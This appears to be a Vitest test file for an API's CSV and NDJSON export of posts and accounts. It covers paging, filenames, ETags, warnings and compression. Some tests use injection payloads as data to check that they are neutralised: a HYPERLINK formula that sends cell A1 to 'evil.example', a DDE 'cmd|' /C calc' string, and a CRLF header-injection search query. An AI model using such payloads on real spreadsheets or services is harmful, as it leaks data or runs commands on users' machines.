// Compares `format=csv` of every list, and of several posts, with its JSON and NDJSON, and follows its pages.
import { describe, expect, test } from 'vitest';
import type { Upstream } from '../../../shared/ports/upstream.ts';
import { BROWSE_TARGETS, routesOf, upstreamWithLists, withQuery } from '../../support/browse-routes.ts';
import { accountOfRow, csvRows, postOfRow } from '../../support/csv.ts';
import { linksOf } from '../../support/lifecycle-headers.ts';
import { LIST_ROUTES, targetsOf } from '../../support/list-routes.ts';
import { expectProblem } from '../../support/problem.ts';
import { conversation, createTestApp, found, NOW, page, post, user } from '../../support/test-app.ts';

const TARGETS = [
  ...routesOf(BROWSE_TARGETS.filter(({ resource }) => resource !== 'profile')),
  '/api/v1/search?q=fjord&feed=users',
  '/api/v1/timeline?handles=ada,jack',
  '/ada,jack',
  ...LIST_ROUTES.flatMap(targetsOf),
];

const BASE = 'https://api.example.test';

/** @returns the items of JSON, made again from the rows; a list of accounts has their column */
const itemsOf = (body: string): readonly object[] =>
  csvRows(body).map((row) => ('handle' in row ? accountOfRow(row) : postOfRow(row)));

describe('format=csv', () => {
  test.each(TARGETS)('[lists 18] GET %s returns the items of the JSON body and of NDJSON', async (route) => {
    const { get } = createTestApp({ upstream: upstreamWithLists(30) });
    const [json, ndjson, csv] = await Promise.all(
      ['json', 'ndjson', 'csv'].map((format) => get(withQuery(route, `format=${format}`))),
    );
    expect(csv?.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'cache-control': json?.headers['cache-control'],
    });
    const { posts, users } = json?.json() ?? {};
    expect(itemsOf(csv?.body ?? '')).toEqual(users ?? posts);
    const lines = ndjson?.body.trimEnd().split('\n').slice(0, -1) ?? [];
    expect(itemsOf(csv?.body ?? '')).toEqual(lines.map((line) => JSON.parse(line)));
    expect(csv?.body).toMatch(/^id,/);
  });

  test.each(TARGETS)('[lists 17] Link leads through GET %s, each item once', async (route) => {
    const { get } = createTestApp({ upstream: upstreamWithLists(30) });
    const ids: (string | undefined)[] = [];
    const headers = new Set<string | undefined>();
    for (let target: string | undefined = withQuery(route, 'format=csv&limit=8'); target !== undefined; ) {
      const answer = await get(target);
      expect(answer.status).toBe(200);
      ids.push(...csvRows(answer.body).map(({ id }) => id));
      headers.add(answer.body.split('\r\n')[0]);
      const next: string | undefined = linksOf(answer).rel('next')[0]?.uri.slice(BASE.length);
      expect(next ?? 'format=csv').toContain('format=csv');
      target = next;
    }
    const { posts, users } = (await get(withQuery(route, 'format=json&limit=100'))).json();
    expect(ids).toEqual(((users ?? posts) as readonly { readonly id: string }[]).map(({ id }) => id));
    expect(ids).toHaveLength(30);
    expect(headers.size).toBe(1);
  });

  test.each(TARGETS)('[lists 17] GET %s names the file of each format for programs', async (route) => {
    const { get } = createTestApp({ upstream: upstreamWithLists(3) });
    for (const format of ['csv', 'ndjson']) {
      const answer = await get(withQuery(route, `format=${format}`));
      expect(answer.headers['content-disposition']).toMatch(
        new RegExp(`^inline; filename="[a-z][\\w,-]*[\\w,]\\.${format}"$`),
      );
    }
    expect((await get(route)).headers).not.toHaveProperty('content-disposition');
  });

  test.each([
    ['/api/v1/posts/20/replies', 'csv', 'filename="replies-top-20.csv"'],
    ['/api/v1/profiles/Jack/followers', 'csv', 'filename="followers-jack.csv"'],
    ['/api/v1/lists/2026/posts', 'ndjson', 'filename="list-of-X-2026.ndjson"'],
    ['/ada,jack?since=2025-01-01', 'csv', 'filename="merged-posts-ada,jack-1735689600000.csv"'],
    ['/search?q=潮汐', 'csv', `filename="search.csv"; filename*=UTF-8''search-latest-%E6%BD%AE%E6%B1%90.csv`],
    ['/search?q=%22a%5C..%2Fb%22%3B%20x%25', 'csv', 'filename="search-latest--a-..-b-;-x.csv"'],
    [
      '/search?q=%F0%9F%90%8B%0D%0AX%3A%201',
      'csv',
      `filename="search-latest---X---1.csv"; filename*=UTF-8''search-latest-%F0%9F%90%8B-X---1.csv`,
    ],
    ['/jack/status/20/conversation', 'graphml', 'filename="conversation-20.graphml"'],
    ['/api/v1/posts/lookup?ids=20', 'csv', 'filename="posts.csv"'],
  ])('[lists 17] the file of GET %s as %s has a name', async (route, format, name) => {
    const { get } = createTestApp({ upstream: upstreamWithLists(3) });
    const answer = await get(withQuery(route, `format=${format}`));
    expect([answer.status, answer.headers['content-disposition']]).toEqual([200, `inline; ${name}`]);
  });

  test('[lists 17] an empty list has the header of its items', async () => {
    const upstream = { listPosts: async () => found(page([])), listUsers: async () => found(page([])) };
    const { get } = createTestApp({ upstream });
    expect((await get('/api/v1/search?q=fjord&format=csv')).body).toMatch(
      /^id,thread_id,timestamp,body,author,[a-z_,]+\r\n$/,
    );
    expect((await get('/api/v1/search?q=fjord&feed=users&format=csv')).body).toMatch(/^id,handle,name,[a-z_,]+\r\n$/);
  });

  test('[lists 17] several posts have a row each, also those that cannot be read', async () => {
    const readPost: Upstream['readPost'] = async ({ id }) => {
      if (id === '21') return { kind: 'gone', reason: 'deleted' };
      return id === '22' ? { kind: 'down', why: 'ECONNREFUSED' } : found(conversation(id));
    };
    const { get } = createTestApp({ upstream: { readPost } });
    const target = '/api/v1/posts/lookup?ids=20,21,22&format=';
    const answer = await get(`${target}csv`);
    expect(itemsOf(answer.body)).toEqual((await get(`${target}json`)).json()['posts']);
    expect(csvRows(answer.body)).toMatchObject([
      { id: '20', body: 'just setting up my twttr', unavailable: '', reason: '' },
      { id: '21', body: '', unavailable: 'true', reason: 'deleted' },
      { id: '22', body: '', unavailable: 'true', reason: 'failed' },
    ]);
    expect(answer.headers).toMatchObject({ 'x-warnings': 'posts_failed' });
    expect(answer.headers).not.toHaveProperty('link');
    expectProblem(await get(`${target}ndjson`), 400, 'invalid_format');
  });

  test('[lists 17] X-Warnings has the codes of the warnings of the JSON body, and is absent without one', async () => {
    const upstream = { listPosts: async () => ({ ...found(page([])), warnings: [] }) };
    const { get } = createTestApp({ upstream: { ...upstream, ...upstreamWithLists(30) } });
    expect((await get('/api/v1/search?q=fjord&format=csv')).headers).not.toHaveProperty('x-warnings');
    const warnings = ['timeline_stale', 'withheld'].map((code) => ({ code, message: code }));
    const warned = createTestApp({ upstream: { listPosts: async () => ({ ...found(page([])), warnings }) } });
    for (const format of ['csv', 'json'])
      expect((await warned.get(`/api/v1/search?q=fjord&format=${format}`)).headers['x-warnings']).toBe(
        format === 'csv' ? 'timeline_stale, withheld' : undefined,
      );
  });

  test('[lists 17] no cell of a stranger begins like a formula, and the text is in it', async () => {
    const text = '=HYPERLINK("https://evil.example?"&A1,"a")\r\n+1';
    const listed = { listPosts: async () => found(page([post('20', 'jack', text)])) };
    const { body } = await createTestApp({ upstream: listed }).get('/search?q=fjord&format=csv');
    expect(body).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""a"")\r\n+1"`);
    expect(csvRows(body)).toMatchObject([{ body: text }]);
    const ada = { ...user('ada'), name: '@SUM(1+1)', bio: "-2+3+cmd|' /C calc'!A0" };
    const accounts = createTestApp({ upstream: { listUsers: async () => found(page([ada])) } });
    expect((await accounts.get('/jack/followers?format=csv')).body).toMatch(/,"'@SUM\(1\+1\)",.*,"'-2\+3\+cmd\|/);
  });

  test('[lists 17] the ETag does not depend on the time of reading, and differs from that of JSON', async () => {
    const app = (fetchedAt: number) =>
      createTestApp({ upstream: { listUsers: async () => ({ ...found(page([user('ada')])), fetchedAt }) } });
    const route = '/jack/followers?format=csv';
    const { etag = '' } = (await app(NOW).get(route)).headers;
    expect((await app(NOW - 5000).get(route)).headers['etag']).toBe(etag);
    expect((await app(NOW).get('/jack/followers?format=json')).headers['etag']).not.toBe(etag);
    for (const method of ['GET', 'HEAD'])
      expect((await app(NOW - 5000).get(route, { method, headers: { 'if-none-match': etag } })).status).toBe(304);
  });

  test('[lists 17] Accept does not select the format, and a post and a profile have none', async () => {
    const { get } = createTestApp();
    expectProblem(await get('/api/v1/search?q=fjord', { headers: { accept: 'text/csv' } }), 406, 'not_acceptable');
    const preferred = { accept: 'text/csv, application/json;q=0.5' };
    expect((await get('/jack/followers', { headers: preferred })).headers['content-type']).toBe('application/json');
    for (const target of ['/jack/status/20', '/jack', '/api/browse?resource=profile&handle=jack'])
      expectProblem(await get(withQuery(target, 'format=csv')), 400, 'invalid_format');
  });

  test('[caching 18] a body over 1 kB is compressed if Accept-Encoding allows', async () => {
    const { get } = createTestApp({ upstream: upstreamWithLists(30) });
    const route = '/api/v1/search?q=fjord&format=csv';
    const answer = await get(route, { headers: { 'accept-encoding': 'br' } });
    expect(answer.headers['content-encoding']).toBe('br');
    expect(answer.body).toBe((await get(route)).body);
  });
});
